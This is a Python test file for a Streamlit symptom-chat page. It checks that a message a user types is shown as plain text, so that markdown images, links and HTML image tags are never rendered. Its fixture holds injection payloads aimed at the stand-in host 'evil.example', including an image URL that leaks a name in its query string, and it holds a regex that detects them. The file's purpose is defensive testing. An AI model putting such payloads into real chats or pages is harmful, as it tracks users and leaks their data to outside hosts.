"""Symptom chat: what a person types is shown as text, never as markdown (issue 14): a markdown image in a rendered
message would be fetched by the browser of everyone who opens the chat (tracking, exfiltration), and a link or
emphasis would change what the message says."""

from __future__ import annotations

import re
from pathlib import Path

from streamlit.testing.v1 import AppTest

PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "symptom_chat.py")
TYPED = ("I have had a sore throat for two days ![x](http://evil.example/t.png?n=Jane) "
         "[click here](http://evil.example/) **loud** <img src=http://evil.example/i.png>")
LIVE = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(|<img", re.I)  # an unescaped image, link or HTML image


def _shown(at) -> tuple[list[str], list[str]]:
    """(texts shown as plain text, strings rendered as markdown) in the chat and around it."""
    text = [t.value for m in at.chat_message for t in m.text]
    md = [md.value for m in at.chat_message for md in m.markdown]
    md += [m.value for m in at.markdown] + [c.value for c in at.caption] + [i.value for i in at.info]
    md += [w.value for w in at.warning] + [e.value for e in at.error] + [s.value for s in at.success]
    return text, md


def _check(at) -> None:
    assert not at.exception and not at.error
    text, md = _shown(at)
    assert TYPED in text  # the message as typed, shown as text
    assert [v for v in md if LIVE.search(v) or "evil.example" in v] == []  # nothing of it rendered as markdown
    assert not at.get("imgs")  # and no image element


def test_markdown_in_a_chat_message_is_shown_as_text(settings):
    at = AppTest.from_file(PAGE, default_timeout=120).run()
    at.chat_input(key="tri_input").set_value(TYPED).run()
    _check(at)
    assert any("I noted" in v for v in _shown(at)[1])  # the engine still read the symptom in it
    at.radio(key="tri_mode").set_value("Clinician").run()  # the clinician view draws the same turns
    _check(at)

    ws = at.query_params["ws"]
    again = AppTest.from_file(PAGE, default_timeout=120)  # a reload: the chat restored from the workspace
    again.query_params["ws"] = ws if isinstance(ws, str) else ws[0]
    again.run()
    _check(again)
